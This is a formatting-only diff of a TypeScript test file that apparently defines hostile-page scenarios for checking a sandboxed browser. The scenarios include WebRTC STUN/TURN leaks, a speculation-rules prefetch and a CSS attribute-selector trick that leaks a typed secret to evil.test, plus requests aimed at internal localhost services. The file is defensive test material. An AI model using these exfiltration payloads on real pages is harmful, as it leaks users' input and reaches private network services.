@@ -10,7 +10,13 @@ const html = (markup: string, script = "", headers: Readonly<Record<string, stri
 });
 
 /** `on`: https, since most of it exists only there. */
-function opened(id: string, title: string, page: Page | ((at: Places) => Page), more: Partial<Scenario> = {}, files: Served = {}): Scenario {
+function opened(
+  id: string,
+  title: string,
+  page: Page | ((at: Places) => Page),
+  more: Partial<Scenario> = {},
+  files: Served = {},
+): Scenario {
   return {
     id,
     title,
@@ -44,11 +50,14 @@ const candidate = (host: string, port: number): string => `
   ${FIRED}`;
 
 const webRtc: readonly Scenario[] = [
-  opened("A-101", "STUN over UDP", ({ evilPort }) => html("", gathered(`{ urls: "stun:127.0.0.1:${evilPort}" }`)), { arrives: "evil-udp" }),
+  opened("A-101", "STUN over UDP", ({ evilPort }) => html("", gathered(`{ urls: "stun:127.0.0.1:${evilPort}" }`)), {
+    arrives: "evil-udp",
+  }),
   opened(
     "A-101",
     "TURN over UDP",
-    ({ evilPort }) => html("", gathered(`{ urls: "turn:127.0.0.1:${evilPort}?transport=udp", username: "a", credential: "b" }`)),
+    ({ evilPort }) =>
+      html("", gathered(`{ urls: "turn:127.0.0.1:${evilPort}?transport=udp", username: "a", credential: "b" }`)),
     {
       arrives: "evil-udp",
     },
@@ -56,13 +65,18 @@ const webRtc: readonly Scenario[] = [
   opened(
     "A-101",
     "TURN over TCP",
-    ({ evilPort }) => html("", gathered(`{ urls: "turn:127.0.0.1:${evilPort}?transport=tcp", username: "a", credential: "b" }`)),
+    ({ evilPort }) =>
+      html("", gathered(`{ urls: "turn:127.0.0.1:${evilPort}?transport=tcp", username: "a", credential: "b" }`)),
     {
       arrives: "evil-connection",
     },
   ),
-  opened("A-101", "a candidate over TCP and UDP", ({ evilPort }) => html("", candidate("127.0.0.1", evilPort)), { arrives: "evil-connection" }),
-  opened("A-101", "a candidate by name", ({ evilPort }) => html("", candidate("localhost", evilPort)), { arrives: "evil-connection" }),
+  opened("A-101", "a candidate over TCP and UDP", ({ evilPort }) => html("", candidate("127.0.0.1", evilPort)), {
+    arrives: "evil-connection",
+  }),
+  opened("A-101", "a candidate by name", ({ evilPort }) => html("", candidate("localhost", evilPort)), {
+    arrives: "evil-connection",
+  }),
 ];
 
 const transport: readonly Scenario[] = [
@@ -93,7 +107,9 @@ const transport: readonly Scenario[] = [
     {
       "shop.test/rules.json": {
         headers: { "content-type": "application/speculationrules+json" },
-        body: JSON.stringify({ prefetch: [{ source: "list", urls: ["https://evil.test/speculated"], eagerness: "immediate" }] }),
+        body: JSON.stringify({
+          prefetch: [{ source: "list", urls: ["https://evil.test/speculated"], eagerness: "immediate" }],
+        }),
       },
     },
   ),
@@ -131,7 +147,10 @@ const styles: readonly Scenario[] = [
       `<style>@font-face { font-family: x; src: url(https://evil.test/font); unicode-range: U+0073 } input { font-family: x }
      input[value^="s"] { background: url(https://evil.test/starts) }</style><label>Name <input oninput="this.setAttribute('value', this.value)"></label>`,
     ),
-    { calls: [{ navigate: "https://shop.test/below" }, { type: 'textbox "Name"', text: "s3cret" }], refused: "reach.asset" },
+    {
+      calls: [{ navigate: "https://shop.test/below" }, { type: 'textbox "Name"', text: "s3cret" }],
+      refused: "reach.asset",
+    },
   ),
   opened(
     "A-107",
@@ -160,7 +179,11 @@ const inside: readonly Scenario[] = [
         `<iframe src="http://127.0.0.1:${internalPort}/frame"></iframe><img alt="" src="http://127.0.0.1:${internalPort}/picture">`,
         `fetch("http://127.0.0.1:${internalPort}/fetch", { mode: "no-cors" }).catch(() => {}); new WebSocket("ws://127.0.0.1:${internalPort}/socket");`,
       ),
-    { calls: [{ navigate: "http://shop.test/below" }], arrives: "internal", parts: ["frame", "picture", "fetch", "socket"] },
+    {
+      calls: [{ navigate: "http://shop.test/below" }],
+      arrives: "internal",
+      parts: ["frame", "picture", "fetch", "socket"],
+    },
   ),
   opened(
     "A-108",
@@ -179,7 +202,10 @@ const inside: readonly Scenario[] = [
   ),
 ];
 
-/** Each asks and tells evil.test, by a picture that is refused anyway, only what it got: the verdict is what the page reports to itself. */
+/**
+ * Each asks and tells evil.test, by a picture that is refused anyway, only what it got: the verdict is what the page
+ * reports to itself.
+ */
 const features: Scenario = opened(
   "A-110",
   "permissions and devices are denied, and nothing waits for an answer",
@@ -223,4 +249,12 @@ const downloads: readonly Scenario[] = [
   }),
 ];
 
-export const belowScenarios: readonly Scenario[] = [...styles, ...webRtc, ...transport, ...reports, ...inside, features, ...downloads];
+export const belowScenarios: readonly Scenario[] = [
+  ...styles,
+  ...webRtc,
+  ...transport,
+  ...reports,
+  ...inside,
+  features,
+  ...downloads,
+];
